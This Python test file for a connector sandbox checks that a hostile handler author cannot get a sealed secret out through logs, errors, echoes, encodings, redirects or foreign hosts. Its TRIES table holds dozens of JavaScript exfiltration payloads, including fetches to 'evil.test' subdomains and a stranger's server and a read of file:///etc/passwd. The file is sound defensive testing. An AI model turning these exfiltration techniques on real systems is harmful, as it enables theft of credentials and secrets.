"""The contest: how a connector's author would steal a secret, and what comes of each try.

The author writes the handler; the API is honest, keeps what it is sent and encodes it as real ones
do (`honest.py`). A try succeeds if the handler, a log line, an error or a stranger's server holds
six characters of the secret in a row, in any form that can be read back.
"""

from __future__ import annotations

import base64
import html
import json
import re
from collections.abc import Iterator
from urllib.parse import unquote

import pytest

from hostile.conftest import Arena, code_of, everything, outcome, shown
from hostile.honest import HonestApi
from moltler.errors import MoltlerError
from sandbox.conftest import Instance
from support.http import Response, redirect

SECRET = "kX9+qZ7/Wm4=pL2&Vt8'Rb3<Yn6>"
"""Of characters that encoders treat in different ways."""
WINDOW = 6


def readings(text: str, depth: int = 2) -> Iterator[str]:
    """Give what a text may mean to somebody who looks closely."""
    yield text
    if depth == 0:
        return
    joined = re.sub(r"\\[rn]|\s", "", text)
    others = {
        joined,
        unquote(text),
        html.unescape(text),
        re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m[1], 16)), text),
        text.replace("\0", ""),
        text[::-1],
        text.replace('","', "").replace('", "', ""),
    }
    for run in re.findall(r"[A-Za-z0-9+/_-]{8,}", joined):
        coded = run.replace("-", "+").replace("_", "/")
        for start in range(4):
            piece = coded[start:]
            usable = piece[: len(piece) // 4 * 4]
            others.add(base64.b64decode(usable).decode("latin-1"))
    for run in re.findall(r"(?:[0-9a-fA-F]{2}){6,}", joined):
        others.add(bytes.fromhex(run).decode("latin-1"))
    for other in others - {text}:
        yield from readings(other, depth - 1)


def leaked(text: str, secret: str = SECRET) -> str | None:
    """Give a part of the secret that a text gives away."""
    pieces = [secret[i : i + WINDOW].lower() for i in range(len(secret) - WINDOW + 1)]
    for reading in readings(text):
        folded = reading.lower()
        for piece in pieces:
            if piece in folded:
                return piece
    return None


@pytest.fixture(scope="module")
def honest(arena: Arena) -> HonestApi:
    return HonestApi(arena.api)


@pytest.fixture(scope="module")
def thief(arena: Arena, honest: HonestApi) -> Instance:
    return arena.attacker(secret=SECRET)


def verdict(arena: Arena, thief: Instance, body: str) -> None:
    """Run a try and look at all that came of it."""
    result = outcome(thief, body)
    seen = shown(result) if isinstance(result, MoltlerError) else json.dumps(result)
    assert leaked(seen) is None
    assert leaked("\n".join(arena.runtime.log)) is None
    assert leaked(everything(arena.foreign)) is None


def test_the_judge_sees_what_was_given_away() -> None:
    for text in (
        SECRET,
        SECRET.upper(),
        SECRET[3:9],
        base64.b64encode(b"ab" + SECRET.encode()).decode(),
        base64.b64encode(base64.b64encode(b"x" + SECRET.encode())).decode(),
        SECRET.encode().hex(),
        SECRET.encode("utf-16-le").decode("latin-1"),
        SECRET[::-1],
    ):
        assert leaked(f"... {text} ...")
    assert leaked("sealed_0123456789abcdef0123456789abcdef and more") is None


KEEP = "const keep = (text) => fetch(url + '/keep', {method: 'POST', body: text});"
GET = "const get = async (p) => await (await fetch(url + p)).text();"

TRIES = {
    # what a handler holds
    "print it": "console.log(key, [...key].join(' '), {key}); return key",
    "throw it": "throw new Error(key)",
    "throw it as a cause": "throw new Error('x', {cause: new Error(key)})",
    "throw it as a name": "const e = new Error('x'); e.name = key; e.code = key; throw e",
    "throw it decoded": "throw new Error(atob(btoa(key)))",
    "look at the config": "return [config, Object.getOwnPropertyDescriptors(config)]",
    "look at what is global": "return Object.getOwnPropertyNames(globalThis).map((n) =>"
    " { try { return String(globalThis[n]) } catch { return 0 } })",
    "hash it": "return [...new Uint8Array(await crypto.subtle.digest('SHA-256',"
    " new TextEncoder().encode(key)))]",
    "export it as a key": "const k = await crypto.subtle.importKey('raw',"
    " new TextEncoder().encode(key), {name: 'HMAC', hash: 'SHA-256'}, true, ['sign']);"
    " return [...new Uint8Array(await crypto.subtle.exportKey('raw', k))]",
    "derive bits from it": "const k = await crypto.subtle.importKey('raw',"
    " new TextEncoder().encode(key), 'PBKDF2', false, ['deriveBits']); return [...new Uint8Array("
    "await crypto.subtle.deriveBits({name: 'PBKDF2', hash: 'SHA-256', salt: new Uint8Array(8),"
    " iterations: 1}, k, 256))]",
    "pair it with itself": "return [btoa(key), atob(btoa('a')), btoa(btoa(key)), escape(key)]",
    # echoes of a request
    "echo of the address": GET + "return get('/echo/' + key + '?k=' + key)",
    "echo of headers": "return (await fetch(url + '/echo/', {headers: {A: key, B: `x ${key} y`,"
    " Authorization: 'Basic ' + btoa('u:' + key)}})).text()",
    "echo of a body": "return (await fetch(url + '/echo/', {method: 'POST', body: key})).text()",
    "echo of JSON": "return (await fetch(url + '/echo/', {method: 'POST',"
    " body: JSON.stringify({k: key, n: [[key]]})})).json()",
    "echo of a form": "return (await fetch(url + '/echo/', {method: 'POST',"
    " body: new URLSearchParams({k: key})})).json()",
    "echo of a multipart form": "const f = new FormData(); f.append('k', key);"
    " return (await fetch(url + '/echo/', {method: 'POST', body: f})).text()",
    "echo in an error": GET + "return get('/error?v=' + key)",
    "echo in a reason": "return (await fetch(url + '/reason?v=' + key)).statusText",
    "echo in a cookie": "return [...(await fetch(url + '/cookie?v=' + key)).headers]",
    "echo in a header's name": "return [...(await fetch(url + '/names?v=' + key)).headers]",
    "echo in a broken head": "try { await fetch(url + '/fails?v=' + key) }"
    " catch (e) { return [e.message, e.stack, String(e.cause)] }",
    "echo of a clone": "const r = await fetch(url + '/echo/' + key);"
    " return [await r.clone().text(), r.url]",
    "echo of a wrong content type": "return (await fetch(url + '/echo/', {method: 'POST',"
    " headers: {'Content-Type': 'application/x-www-form-urlencoded'},"
    " body: JSON.stringify({k: key})})).text()",
    "echo of base64": "return (await fetch(url + '/echo/', {method: 'POST',"
    " body: btoa('aa' + key + 'bb')})).text()",
    # what is kept and asked for again
    "keep it": KEEP + GET + "await keep(key); return get('/kept')",
    "keep it beside itself": KEEP + GET + "await keep(key + key + key); return get('/kept')",
    "keep its base64": KEEP + GET + "await keep(btoa('x' + key)); return get('/kept')",
    "keep base64 of base64": KEEP + GET
    + "await keep(btoa('x' + btoa('yy' + key))); return get('/kept')",
    "keep base64 three deep": KEEP + GET
    + "await keep(btoa(btoa(btoa(key)))); return get('/kept')",
    "keep base64 by hand": KEEP + GET + "const hex = [...key].map((c) =>"
    " c.charCodeAt(0).toString(16)).join(''); await keep(`sealed_b_${hex.length}_${hex}`);"
    " return get('/kept')",
    "have it encoded": KEEP + GET + "await keep('a' + key); return get('/kept/base64')",
    "have it encoded for addresses": KEEP + GET
    + "await keep('ab' + key); return get('/kept/base64url')",
    "have its base64 encoded": KEEP + GET + "await keep(btoa(key)); return get('/kept/base64url')",
    "have it encoded in lines": KEEP + GET + "const all = []; for (let i = 0; i < 60; i += 7)"
    " { await keep('p'.repeat(i) + key); all.push(await get('/kept/lines')) } return all",
    "have it encoded as mail": KEEP + GET + "const all = []; for (let i = 0; i < 76; i += 9)"
    " { await keep('p'.repeat(i) + key); all.push(await get('/kept/mail')) } return all",
    "have it encoded in lines beside a whole one": KEEP + GET
    + "await keep(key + ' '.repeat(20) + key + ' '.repeat(20) + key); return get('/kept/lines')",
    "have it in hexadecimal": KEEP + GET + "await keep(key); return get('/kept/hex')",
    "have it escaped as Go does": KEEP + GET + "await keep(key); return get('/kept/go')",
    "have it escaped as .NET does": KEEP + GET + "await keep(key); return get('/kept/net')",
    "have it escaped as HTML": KEEP + GET + "await keep(key); return get('/kept/html')",
    "have it in a link": KEEP + GET + "await keep(key); return get('/kept/link')",
    "have it byte by byte": KEEP + GET + "await keep(key); return get('/kept/drip')",
    "have it after a lot": KEEP + GET
    + "await keep(key); return (await get('/kept/long')).slice(-99)",
    "have it in another charset": KEEP + "await keep(key); const all = []; for (const c of"
    " ['utf-16', 'utf-16-le', 'utf-32', 'cp037', 'utf-7']) all.push([...new Uint8Array(await (await"
    " fetch(url + '/kept/charset', {headers: {'Accept-Charset': c}})).arrayBuffer())]"
    ".map((b) => String.fromCharCode(b)).join('')); return all",
    "have it compressed": KEEP + "await keep(key); const all = []; for (const c of"
    " ['gzip', 'br', 'zstd', 'deflate', 'compress']) all.push(await fetch(url + '/kept/coded',"
    " {headers: {'Accept-Encoding': c}}).then((r) => r.text(), String)); return all",
    "have parts of it": KEEP + "await keep(key); const all = []; for (let i = 0; i < 28; i += 4)"
    " all.push(await (await fetch(url + '/kept', {headers: {Range: `bytes=${i}-${i + 3}`}}))"
    ".text()); return all",
    "read it piece by piece": KEEP + "await keep('x'.repeat(99) + key + 'y'.repeat(2e6));"
    " const reader = (await fetch(url + '/kept')).body.getReader(); const all = [];"
    " for (;;) { const {done, value} = await reader.read(); if (done) return all;"
    " all.push(new TextDecoder().decode(value.slice(0, 200))) }",
    # redirects
    "redirect to a stranger": "return await fetch(url + '/to?to=http://' + foreign + '/' + key)"
    ".then((r) => r.text(), (e) => e.message)",
    "redirect to a host of it": "return await fetch(url + '/to?to=https://' + key + '.evil.test/')"
    ".then((r) => r.text(), (e) => [e.message, e.stack])",
    "redirect to no address of it": "return await fetch(url + '/to?to=https://[' + key + ']/')"
    ".then((r) => r.text(), (e) => [e.message, e.stack])",
    "redirect to a path of it": "const r = await fetch(url + '/to?to=/echo/' + key);"
    " return [r.url, await r.text()]",
    "redirect by hand": "const r = await fetch(url + '/to?to=/echo/' + key, {redirect: 'manual'});"
    " return [r.url, [...r.headers]]",
    "redirect that opens a seal": "return (await fetch(url + '/to?to=' +"
    " encodeURIComponent('/echo/' + [...key].join('')))).text()",
    # strangers
    "send it to a stranger": "return await fetch('http://' + foreign + '/' + key).catch(String)",
    "a stranger in the name of a host": "return await fetch('https://' + key + '.evil.test')"
    ".catch(String)",
    "a stranger in the name of a user": "return await fetch('http://' + key + '@' + foreign)"
    ".catch(String)",
    "an address that is a secret": "return await fetch(key).catch(String)",
    "another scheme": "return await Promise.all(['file:///etc/passwd', 'data:,' + key, 'blob:x',"
    " 'ftp://h/' + key, 'ws://127.0.0.1/' + key].map((u) => fetch(u).then(String, String)))",
    "a method that holds it": "return await fetch(url, {method: key}).catch(String)",
    "a header whose name holds it": "return await fetch(url + '/echo/', {headers: {[key]: 'x'}})"
    ".then((r) => r.text(), String)",
}  # fmt: skip


@pytest.mark.parametrize("attempt", TRIES)
def test_no_try_gets_the_secret_out(arena: Arena, thief: Instance, attempt: str) -> None:
    verdict(arena, thief, TRIES[attempt])


def test_what_was_tried_reached_the_api_as_it_should(
    arena: Arena, thief: Instance, honest: HonestApi
) -> None:
    outcome(thief, KEEP + "await keep(btoa('x' + btoa('yy' + key)))")
    inner = base64.b64encode(b"yy" + SECRET.encode())
    assert honest.kept == base64.b64encode(b"x" + inner)


@pytest.mark.parametrize("guess", [SECRET[:1], SECRET[:3], SECRET[:12], "Q", "Qqq", "Qqqqqqqqqqqq"])
def test_pieces_of_an_answer_do_not_depend_on_a_guess(
    arena: Arena, thief: Instance, honest: HonestApi, guess: str
) -> None:
    # A guess that was held back as the beginning of the secret would show by itself.
    honest.kept = guess.encode()
    sizes = outcome(
        thief,
        "const reader = (await fetch(url + '/kept/long')).body.getReader(); let last = 0;"
        " for (;;) { const {done, value} = await reader.read(); if (done) return last;"
        " last = value.length }",
    )
    held = outcome(thief, "return 0")
    assert held == 0
    assert sizes > len(guess)


@pytest.mark.parametrize(
    "value", ["hunter2-hunter2", "aaaaaaaaaaaa", "sealed_sealed_x", "12345678"]
)
def test_values_with_repetitions_are_sealed(arena: Arena, honest: HonestApi, value: str) -> None:
    shop = arena.attacker(secret=value)
    result = outcome(shop, KEEP + GET + "await keep('a' + key + key + 'a'); return get('/kept')")
    assert value not in result


def test_a_secret_in_capitals_is_not_told_by_a_host(arena: Arena, honest: HonestApi) -> None:
    shop = arena.attacker(secret="Sesame-Open-Now", hosts=["*.example.com"])
    for target in ("https://${key}.evil.test/", "https://${key}.example.com/", "http://${key}/"):
        result = outcome(
            shop,
            f"return await fetch(url + '/to?to=' + `{target}`)"
            ".then((r) => r.url, (e) => [e.message, e.stack])",
        )
        assert "sesame" not in json.dumps(result).lower()


def test_two_secrets_do_not_hide_each_other(arena: Arena, honest: HonestApi) -> None:
    from sandbox.conftest import Instance as Shop
    from support.sealing import sealed

    one, two = "first-secret-value", "value-first-secret"
    target = sealed({"api_url": arena.api.url}, {"a": one, "b": two}, name="two_secrets")
    result = Shop(arena.runtime, target).execute(
        "async function execute(c) { await fetch(c.api_url + '/keep', {method: 'POST',"
        " body: c.a + c.b + c.a.slice(0) + '-' + c.b}); "
        "return (await fetch(c.api_url + '/kept')).text() }"
    )
    assert leaked(str(result), one) is None
    assert leaked(str(result), two) is None


def test_a_refusal_tells_whole_values_only(arena: Arena, thief: Instance) -> None:
    # Over http a value is refused; that it is refused must not depend on a part of it.
    result = outcome(
        thief,
        "const all = []; for (const guess of ['kX9+qZ', 'kX9+qZ7/Wm4=pL2', 'nothing']) all.push("
        "await fetch('http://198.51.100.1/' + guess).catch((e) => e.code)); return all",
    )
    assert result == ["EGRESS_BLOCKED"] * 3


def test_the_gate_of_writes_cannot_be_used_to_see_it(arena: Arena, thief: Instance) -> None:
    result = outcome(
        thief,
        "return await fetch(url + '/echo/', {method: 'POST', body: key.repeat(400000)})"
        ".then((r) => r.status, (e) => e.message)",
    )
    assert leaked(str(result)) is None
    assert code_of(result) == "ok"


@pytest.mark.parametrize(
    "value",
    ["https://Hook Zebra.test/x", "https://[Hook-Zebra]/x", "https://h:Hook-Zebra/x",
     "https://Hook-Zebra\\u0000.test/x", "Hook-Zebra://h/x", "https://Hook-Zebra.test:99999/"],
)  # fmt: skip
def test_an_address_that_is_a_secret_is_not_told_if_it_is_none(arena: Arena, value: str) -> None:
    shop = arena.attacker(secret=value)
    for address in ("key", "`https://${key}/`", "`https://${key}.test/`", "`https://h:${key}/`"):
        result = outcome(shop, f"return await fetch({address}).catch((e) => [e.message, e.stack])")
        seen = shown(result) if isinstance(result, MoltlerError) else json.dumps(result)
        assert leaked(seen, "Hook-Zebra") is None
        assert leaked(seen, "Hook Zebra") is None


def test_no_part_of_an_address_that_is_a_secret_is_told(arena: Arena, honest: HonestApi) -> None:
    path = "/services/T0KQWXYZ/B9PLMNOP/aBcDeFgHiJkL"
    shop = arena.attacker(secret=f"{arena.api.url}{path}?token=Zz91Yy82Xx73")
    arena.api.route("GET", path, lambda r: Response(404, f"Cannot GET {r.path}"))
    arena.api.route("POST", path, lambda r: {"you asked for": r.target, "query": r.query})
    arena.api.route("PUT", path, redirect("../elsewhere"))
    arena.api.route("PATCH", path, redirect(path + "/"))
    result = outcome(
        shop,
        """
        const all = [];
        const look = async (r) => [r.url, [...r.headers], await r.text()];
        const tell = (e) => [e.message, e.stack];
        const body = 'x'.repeat(17e6);
        for (const [given, init] of [
            [key, {}], [key, {method: 'POST'}], [key, {method: 'PUT'}],
            [key, {method: 'PATCH', redirect: 'manual'}], [key, {method: 'PUT', redirect: 'error'}],
            [key, {method: 'POST', body: 'x'.repeat(16.5e6)}], [key, {method: 'POST', body}],
            [key + '/more', {}], [key + '#' + key, {}],
        ]) all.push(await fetch(given, init).then(look, tell));
        return all;
        """,
    )
    seen = shown(result) if isinstance(result, MoltlerError) else json.dumps(result)
    for secret in ("T0KQWXYZ", "B9PLMNOP", "aBcDeFgHiJkL", "Zz91Yy82Xx73"):
        assert leaked(seen, secret) is None
    assert "[secret address]" in seen
